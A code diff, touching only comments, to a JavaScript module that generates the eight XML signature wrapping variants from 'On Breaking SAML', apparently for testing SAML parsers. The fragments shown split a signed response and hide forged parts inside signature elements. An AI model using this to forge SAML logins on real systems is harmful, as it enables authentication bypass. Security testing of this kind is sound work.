@@ -1,10 +1,10 @@
-// XML signature wrapping, the eight variants of "On Breaking SAML" (Somorovsky et al., 2012): a signed part stays where its
-// signature finds it, and a forged one is placed where a careless parser reads.
+// Creates XML signature wrapping attacks, the eight variants of "On Breaking SAML" (Somorovsky et al., 2012): a signed part stays
+// where its signature finds it, and a forged one is placed where a careless parser reads.
 import { SIGNER, VICTIM } from './message.mjs';
 
 const SIGNATURE = /<ds:Signature [\s\S]*?<\/ds:Signature>/g;
 
-/** The parts of a signed answer, as text. */
+/** The parts of a signed response, as text. */
 function partsOf(xml) {
   const assertion = /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(xml)[0];
   const around = xml.replace(assertion, '');
@@ -27,7 +27,7 @@ function inObject(signature, hidden) {
   return signature.replace('</ds:Signature>', `<ds:Object>${hidden}</ds:Object></ds:Signature>`);
 }
 
-/** @returns the eight variants, by number, of an answer with the signatures `signs` */
+/** @returns the eight variants, by number, of a signed response */
 export function wrapped(xml) {
   const { assertion, assertionSignature, responseSignature } = partsOf(xml);
   const bareResponse = xml.replace(responseSignature, '');
